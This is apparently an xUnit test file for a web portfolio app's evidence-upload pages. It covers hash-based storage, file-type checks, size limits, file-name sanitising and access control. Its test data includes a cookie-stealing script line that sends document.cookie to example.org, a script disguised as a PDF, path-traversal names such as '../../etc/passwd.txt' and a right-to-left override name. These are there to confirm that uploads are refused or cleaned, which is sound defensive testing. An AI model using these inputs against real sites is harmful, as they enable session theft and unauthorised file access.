using System.Net;
using System.Text;
using Portfolio.Evidence;
using Portfolio.Rubrics;

namespace Portfolio.Tests.Pages.PortfolioArea;

/// <summary>Uploads with a small size limit so the oversize case is cheap.</summary>
public sealed class SmallUploadsApp : PortfolioApp
{
    protected override void ConfigureHost(Microsoft.AspNetCore.Hosting.IWebHostBuilder builder)
    {
        base.ConfigureHost(builder);
        builder.UseSetting("Uploads:MaxFileBytes", "4096");
    }
}

public sealed class UploadEvidenceTests(SmallUploadsApp app) : IClassFixture<SmallUploadsApp>
{
    // A 1×1 transparent PNG.
    static readonly byte[] Png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=");

    async Task<(EnrolledCandidate E, long Id, HttpClient Client)> DraftAsync()
    {
        var e = await app.EnrolledCandidateAsync();
        var id = await EvidenceTestSteps.ItemAsync(app, e, EvidenceKind.ActionPlan);
        return (e, id, await app.SignedInAsync(e.Candidate));
    }

    Task<HttpResponseMessage> UploadAsync(HttpClient client, long id, string name, byte[] content, string type = "application/octet-stream") =>
        EvidenceTestSteps.OnViewAsync(client, id, "#upload-form", new() { ["upload"] = new FileUpload(name, content, type) });

    Task<int> FilesAsync(long id) =>
        app.ScalarAsync<int>("SELECT count(*) FROM evidence_files f JOIN evidence_revisions r ON r.id = f.revision_id WHERE r.item_id = @id", new { id });

    [Fact]
    public async Task A_photo_of_a_plan_is_stored_by_its_hash_and_downloads_as_an_attachment()
    {
        var (_, id, client) = await DraftAsync();

        var response = await UploadAsync(client, id, "career map.png", Png, "image/png");

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        var page = await Html.GetAsync(client, $"/Portfolio/Evidence/View?id={id}");
        var link = page.QuerySelector("#files a")!;
        Assert.Equal("career map.png", link.TextContent);
        var download = await client.GetAsync(link.GetAttribute("href"));
        Assert.Equal("image/png", download.Content.Headers.ContentType!.MediaType);
        Assert.StartsWith("attachment", download.Content.Headers.ContentDisposition!.ToString());
        Assert.Equal(Png, await download.Content.ReadAsByteArrayAsync());
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Png));
        Assert.True(File.Exists(Path.Combine(app.FilesFolder, sha[..2], sha[2..4], sha)));
    }

    [Fact]
    public async Task The_take_a_photo_form_opens_the_camera_on_a_phone_and_stores_the_picture()
    {
        var (_, id, client) = await DraftAsync();
        var view = await Html.GetAsync(client, $"/Portfolio/Evidence/View?id={id}");
        var camera = view.QuerySelector("#photo-form input[type=file]")!;
        Assert.Equal("environment", camera.GetAttribute("capture"));
        Assert.Equal("image/jpeg,image/png", camera.GetAttribute("accept"));

        var response = await EvidenceTestSteps.OnViewAsync(client, id, "#photo-form",
            new() { ["upload"] = new FileUpload("photo.png", Png, "image/png") });

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal(1, await FilesAsync(id));
    }

    [Fact]
    public async Task A_photo_that_is_no_picture_is_refused_at_the_photo_field_that_the_error_summary_links_to()
    {
        var (_, id, client) = await DraftAsync();

        var page = await Html.ParseAsync(await EvidenceTestSteps.OnViewAsync(client, id, "#photo-form",
            new() { ["upload"] = new FileUpload("photo.jpg", "not a picture"u8.ToArray(), "image/jpeg") }));

        Assert.Equal("#photo", page.QuerySelector(".govuk-error-summary a")!.GetAttribute("href"));
        Assert.NotNull(page.QuerySelector("#photo-form .govuk-form-group--error #photo-error"));
        Assert.Null(page.QuerySelector("#upload-error"));
        Assert.Equal(0, await FilesAsync(id));
    }

    [Fact]
    public async Task Files_are_listed_by_their_kind_and_size_in_words()
    {
        var (_, id, client) = await DraftAsync();
        var docx = Portfolio.Tests.Storage.SampleFiles.Docx("Session notes", new string('x', 30_000));

        await UploadAsync(client, id, "session notes.docx", docx, WordMime);
        var page = await Html.GetAsync(client, $"/Portfolio/Evidence/View?id={id}");

        Assert.Equal($"(Word document, {Math.Max(1, docx.Length / 1024)} KB)", page.QuerySelector("#files .app-file-description")!.TextContent);
        Assert.DoesNotContain("application/", page.QuerySelector("#files")!.TextContent, StringComparison.Ordinal);
    }

    const string WordMime = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

    [Theory]
    [InlineData("plan.pdf", "<html><script>alert(1)</script></html>")]
    [InlineData("notes.exe", "MZ\u0090\0\u0003")]
    public async Task Content_that_is_not_what_its_name_says_or_not_allowed_is_refused_and_nothing_is_kept(string name, string content)
    {
        var (_, id, client) = await DraftAsync();

        var response = await UploadAsync(client, id, name, Encoding.UTF8.GetBytes(content), "application/pdf");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.NotEmpty(Html.Errors(await Html.ParseAsync(response)));
        Assert.Equal(0, await FilesAsync(id));
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(content)));
        Assert.False(File.Exists(Path.Combine(app.FilesFolder, sha[..2], sha[2..4], sha)));
        var temporary = Path.Combine(app.FilesFolder, "tmp");
        Assert.Empty(Directory.Exists(temporary) ? Directory.GetFiles(temporary) : []);
    }

    public static TheoryData<string, byte[], string> ActiveContent => new()
    {
        { "helper.js", Encoding.UTF8.GetBytes("document.location = 'https://example.org/?' + document.cookie;"), "Files ending .js are not accepted" },
        { "plan.docm", Storage.SampleFiles.Docx("Agreed steps"), "can hold macros" },
        { "plan.docx", Storage.SampleFiles.DocxWithMacros("Agreed steps"), "can hold macros" },
    };

    [Theory]
    [MemberData(nameof(ActiveContent))]
    public async Task Script_files_and_documents_with_macros_are_refused_with_a_reason_and_nothing_is_kept(
        string name, byte[] content, string reason)
    {
        var (_, id, client) = await DraftAsync();

        var response = await UploadAsync(client, id, name, content);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains(Html.Errors(await Html.ParseAsync(response)), e => e.Contains(reason, StringComparison.Ordinal));
        Assert.Equal(0, await FilesAsync(id));
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(content));
        Assert.False(File.Exists(Path.Combine(app.FilesFolder, sha[..2], sha[2..4], sha)));
        Assert.Empty(Directory.GetFiles(Path.Combine(app.FilesFolder, "tmp")));
    }

    [Fact]
    public async Task An_empty_file_is_refused()
    {
        var (_, id, client) = await DraftAsync();

        var response = await UploadAsync(client, id, "empty.txt", []);

        Assert.Contains("Choose a file to upload; the file you chose is empty", Html.Errors(await Html.ParseAsync(response)));
        Assert.Equal(0, await FilesAsync(id));
    }

    [Fact]
    public async Task A_file_over_the_size_limit_is_refused_with_the_limit_named()
    {
        var (_, id, client) = await DraftAsync();

        var response = await UploadAsync(client, id, "long.txt", Encoding.UTF8.GetBytes(new string('a', 5000)), "text/plain");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.NotEmpty(Html.Errors(await Html.ParseAsync(response)));
        Assert.Equal(0, await FilesAsync(id));
    }

    [Theory]
    [InlineData("../../etc/passwd.txt", "passwd.txt")]
    [InlineData("..\\..\\boot.txt", "boot.txt")]
    [InlineData("notes\u0000\u202Etxt.exe.txt", "notestxt.exe.txt")]
    public async Task Directories_and_control_characters_in_a_file_name_are_removed(string name, string shown)
    {
        var (_, id, client) = await DraftAsync();

        await UploadAsync(client, id, name, Encoding.UTF8.GetBytes("Plain notes from a session."), "text/plain");

        Assert.Equal(shown, await app.ScalarAsync<string>("SELECT f.display_name FROM evidence_files f JOIN evidence_revisions r ON r.id = f.revision_id WHERE r.item_id = @id", new { id }));
    }

    [Fact]
    public async Task Another_candidates_file_is_not_found()
    {
        var (e, id, client) = await DraftAsync();
        await UploadAsync(client, id, "map.png", Png, "image/png");
        var fileId = await app.ScalarAsync<long>("SELECT f.id FROM evidence_files f JOIN evidence_revisions r ON r.id = f.revision_id WHERE r.item_id = @id", new { id });
        var other = await app.SignedInAsync(await app.PersonAsync(e.CentreId, Portfolio.People.Role.Candidate));

        Assert.Equal(HttpStatusCode.NotFound, (await other.GetAsync($"/Portfolio/Evidence/File?id={fileId}")).StatusCode);
    }

    [Fact]
    public async Task Text_of_an_uploaded_document_is_extracted_and_can_be_annotated()
    {
        var (_, id, client) = await DraftAsync();
        await UploadAsync(client, id, "session notes.txt", Encoding.UTF8.GetBytes("We agreed the client would phone the college by Friday."), "text/plain");
        var sha = await app.ScalarAsync<string>("SELECT f.sha256 FROM evidence_files f JOIN evidence_revisions r ON r.id = f.revision_id WHERE r.item_id = @id", new { id });

        var response = await EvidenceTestSteps.OnViewAsync(client, id, "#annotate-form", new()
        {
            ["Annotation.Quote"] = "phone the college by Friday", ["Annotation.FileSha256"] = sha, ["Annotation.Comment"] = "A dated step",
        });

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        var page = await Html.GetAsync(client, $"/Portfolio/Evidence/View?id={id}");
        Assert.Equal("phone the college by Friday", page.QuerySelector($".app-evidence__text[data-file='{sha}'] mark.app-annotation")!.TextContent);
    }
}
